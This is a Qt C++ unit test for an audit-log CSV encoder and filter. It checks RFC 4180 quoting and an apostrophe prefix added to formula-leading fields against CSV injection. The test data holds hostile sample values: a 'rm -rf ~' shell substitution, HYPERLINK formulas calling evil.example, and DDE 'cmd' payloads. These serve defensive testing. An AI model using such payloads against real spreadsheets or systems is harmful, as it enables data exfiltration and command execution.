// Audit log CSV (RFC 4180) and the viewer's filter: hostile field contents survive a round trip
// through an independent CSV reader, and the filter narrows by client, time and text.
#include "security/AuditCsv.h"
#include "security/AuditFilter.h"

#include <QTest>

using namespace cairn;

namespace {

// A strict RFC 4180 reader, written apart from the encoder so the test does not trust it.
QList<QStringList> parseCsv(const QString &text, bool *ok)
{
    QList<QStringList> rows;
    QStringList row;
    QString field;
    bool quoted = false;
    bool fieldWasQuoted = false;
    *ok = true;
    for (qsizetype i = 0; i < text.size(); ++i) {
        const QChar c = text.at(i);
        if (quoted) {
            if (c == QLatin1Char('"')) {
                if (i + 1 < text.size() && text.at(i + 1) == QLatin1Char('"')) {
                    field += QLatin1Char('"');
                    ++i;
                } else {
                    quoted = false;
                }
            } else {
                field += c;
            }
            continue;
        }
        if (c == QLatin1Char('"')) {
            if (!field.isEmpty() || fieldWasQuoted)
                *ok = false; // a quote inside an unquoted field
            quoted = true;
            fieldWasQuoted = true;
        } else if (c == QLatin1Char(',')) {
            row << field;
            field.clear();
            fieldWasQuoted = false;
        } else if (c == QLatin1Char('\r')) {
            if (i + 1 >= text.size() || text.at(i + 1) != QLatin1Char('\n'))
                *ok = false; // a bare CR outside quotes
            row << field;
            rows << row;
            row.clear();
            field.clear();
            fieldWasQuoted = false;
            ++i;
        } else if (c == QLatin1Char('\n')) {
            *ok = false; // a bare LF outside quotes
        } else {
            field += c;
        }
    }
    if (quoted || !row.isEmpty() || !field.isEmpty())
        *ok = false; // the last record must end with CRLF
    return rows;
}

} // namespace

class tst_AuditCsv final : public QObject {
    Q_OBJECT

private Q_SLOTS:
    void field_data()
    {
        QTest::addColumn<QString>("value");
        QTest::addColumn<QString>("expected");
        QTest::addRow("plain") << QStringLiteral("server.add") << QStringLiteral("server.add");
        QTest::addRow("empty") << QString() << QString();
        QTest::addRow("comma") << QStringLiteral("a,b") << QStringLiteral("\"a,b\"");
        QTest::addRow("quote") << QStringLiteral("say \"hi\"") << QStringLiteral("\"say \"\"hi\"\"\"");
        QTest::addRow("newline") << QStringLiteral("one\ntwo") << QStringLiteral("\"one\ntwo\"");
        QTest::addRow("crlf") << QStringLiteral("one\r\ntwo") << QStringLiteral("\"one\r\ntwo\"");
        QTest::addRow("only a quote") << QStringLiteral("\"") << QStringLiteral("\"\"\"\"");
        QTest::addRow("shell") << QStringLiteral("$(rm -rf ~) `id`") << QStringLiteral("$(rm -rf ~) `id`");
        // Formula starts (OWASP CSV injection): an apostrophe first, quoting still as RFC 4180 says.
        QTest::addRow("leading dash") << QStringLiteral("--force") << QStringLiteral("'--force");
        QTest::addRow("equals formula")
            << QStringLiteral("=HYPERLINK(\"http://evil.example\";\"db1\")")
            << QStringLiteral("\"'=HYPERLINK(\"\"http://evil.example\"\";\"\"db1\"\")\"");
        QTest::addRow("dde with comma")
            << QStringLiteral("=cmd|' /C calc'!A0,x") << QStringLiteral("\"'=cmd|' /C calc'!A0,x\"");
        QTest::addRow("plus") << QStringLiteral("+1+2") << QStringLiteral("'+1+2");
        QTest::addRow("minus") << QStringLiteral("-2+3") << QStringLiteral("'-2+3");
        QTest::addRow("at") << QStringLiteral("@SUM(A1:A9)") << QStringLiteral("'@SUM(A1:A9)");
        QTest::addRow("tab") << QStringLiteral("\t=1+1") << QStringLiteral("'\t=1+1");
        QTest::addRow("carriage return") << QStringLiteral("\r=1+1") << QStringLiteral("\"'\r=1+1\"");
        QTest::addRow("formula inside kept") << QStringLiteral("db1 =1+1") << QStringLiteral("db1 =1+1");
        QTest::addRow("leading space kept") << QStringLiteral(" =1+1") << QStringLiteral(" =1+1");
        QTest::addRow("apostrophe kept") << QStringLiteral("'quoted") << QStringLiteral("'quoted");
        QTest::addRow("spaces kept") << QStringLiteral("  x  ") << QStringLiteral("  x  ");
        QTest::addRow("unicode") << QStringLiteral("Müller, 東京") << QStringLiteral("\"Müller, 東京\"");
    }
    void field()
    {
        QFETCH(QString, value);
        QFETCH(QString, expected);
        QCOMPARE(AuditCsv::field(value), expected);
    }

    void roundTrip()
    {
        QList<AuditEntry> entries;
        const QStringList objects { QStringLiteral("web, \"main\""), QStringLiteral("line one\nline two"),
            QStringLiteral("cr\ronly"), QStringLiteral("crlf\r\nend"), QStringLiteral("-- $(id) ; `x`"),
            QStringLiteral("=HYPERLINK(\"http://evil.example/?\"&A1, \"web\")"),
            QStringLiteral("+cmd|' /C calc'!A0"), QStringLiteral("@SUM(1+1)*cmd|' /C calc'!A0"),
            QStringLiteral("\t-1"), QStringLiteral("\r\n=1"), QStringLiteral(""), QStringLiteral("\"\""),
            QStringLiteral("Müller & Söhne 😀"), QString::fromUtf8(QByteArray("bad \xff\xfe bytes")) };
        qint64 id = 0;
        for (const QString &object : objects) {
            AuditEntry e;
            e.id = ++id;
            e.at = QDateTime::fromMSecsSinceEpoch(1'800'000'000'000 + id * 1000, Qt::UTC);
            e.actor = QStringLiteral("alice, admin");
            e.action = QStringLiteral("server.add");
            e.object = object;
            e.outcome = QStringLiteral("ok");
            e.clientId = id % 3;
            e.hash = QStringLiteral("%1").arg(id, 64, 16, QLatin1Char('0'));
            entries << e;
        }
        const QByteArray csv = AuditCsv::encode(entries);
        bool ok = false;
        const QList<QStringList> rows = parseCsv(QString::fromUtf8(csv), &ok);
        QVERIFY2(ok, csv.constData());
        QCOMPARE(rows.size(), entries.size() + 1);
        QCOMPARE(rows.first(),
            QStringList({ QStringLiteral("id"), QStringLiteral("time_utc"), QStringLiteral("actor"),
                QStringLiteral("action"), QStringLiteral("object"), QStringLiteral("outcome"),
                QStringLiteral("client_id"), QStringLiteral("hash") }));
        for (int i = 0; i < entries.size(); ++i) {
            const QStringList &row = rows.at(i + 1);
            QCOMPARE(row.size(), 8);
            QCOMPARE(row.at(0), QString::number(entries.at(i).id));
            QCOMPARE(QDateTime::fromString(row.at(1), Qt::ISODateWithMs), entries.at(i).at);
            QCOMPARE(row.at(2), entries.at(i).actor);
            // What a formula start gets: one apostrophe, nothing else changed.
            const QString object = entries.at(i).object;
            const bool formula = !object.isEmpty() && QStringLiteral("=+-@\t\r").contains(object.front());
            QCOMPARE(row.at(4), formula ? QLatin1Char('\'') + object : object);
            QCOMPARE(row.at(6), QString::number(entries.at(i).clientId));
            QCOMPARE(row.at(7), entries.at(i).hash);
        }
    }

    void emptyLogIsHeaderOnly()
    {
        QCOMPARE(
            AuditCsv::encode({}), QByteArray("id,time_utc,actor,action,object,outcome,client_id,hash\r\n"));
    }

    void filter_data()
    {
        QTest::addColumn<qint64>("clientId");
        QTest::addColumn<int>("fromOffset"); // seconds after the first entry; -1: none
        QTest::addColumn<int>("toOffset");
        QTest::addColumn<QString>("text");
        QTest::addColumn<QList<qint64>>("expectedIds");
        QTest::addRow("everything") << qint64(0) << -1 << -1 << QString() << QList<qint64> { 1, 2, 3, 4 };
        QTest::addRow("one client") << qint64(7) << -1 << -1 << QString() << QList<qint64> { 1, 3 };
        QTest::addRow("from, inclusive") << qint64(0) << 20 << -1 << QString() << QList<qint64> { 3, 4 };
        QTest::addRow("to, inclusive") << qint64(0) << -1 << 10 << QString() << QList<qint64> { 1, 2 };
        QTest::addRow("text in action, any case")
            << qint64(0) << -1 << -1 << QStringLiteral("HOSTKEY") << QList<qint64> { 2 };
        QTest::addRow("text in object")
            << qint64(0) << -1 << -1 << QStringLiteral("db1") << QList<qint64> { 1, 3 };
        QTest::addRow("text in outcome")
            << qint64(0) << -1 << -1 << QStringLiteral("wrong") << QList<qint64> { 4 };
        QTest::addRow("all together") << qint64(7) << 5 << 30 << QStringLiteral("db1") << QList<qint64> { 3 };
        QTest::addRow("nothing matches")
            << qint64(0) << -1 << -1 << QStringLiteral("no such thing") << QList<qint64> {};
    }
    void filter()
    {
        QFETCH(qint64, clientId);
        QFETCH(int, fromOffset);
        QFETCH(int, toOffset);
        QFETCH(QString, text);
        QFETCH(QList<qint64>, expectedIds);
        const QDateTime start = QDateTime::fromMSecsSinceEpoch(1'800'000'000'000, Qt::UTC);
        auto entry = [&](qint64 id, int offset, const char *action, const char *object, const char *outcome,
                         qint64 client) {
            AuditEntry e;
            e.id = id;
            e.at = start.addSecs(offset);
            e.actor = QStringLiteral("alice");
            e.action = QString::fromLatin1(action);
            e.object = QString::fromLatin1(object);
            e.outcome = QString::fromLatin1(outcome);
            e.clientId = client;
            return e;
        };
        const QList<AuditEntry> entries { entry(1, 0, "server.add", "db1", "ok", 7),
            entry(2, 10, "hostkey.retrust", "web", "ok", 8), entry(3, 20, "server.remove", "db1", "ok", 7),
            entry(4, 30, "lock.password_check", "", "wrong password", 0) };
        AuditFilter f;
        f.clientId = clientId;
        if (fromOffset >= 0)
            f.from = start.addSecs(fromOffset);
        if (toOffset >= 0)
            f.to = start.addSecs(toOffset);
        f.text = text;
        QList<qint64> ids;
        for (const AuditEntry &e : f.apply(entries))
            ids << e.id;
        QCOMPARE(ids, expectedIds);
    }
};

QTEST_GUILESS_MAIN(tst_AuditCsv)
#include "tst_auditcsv.moc"
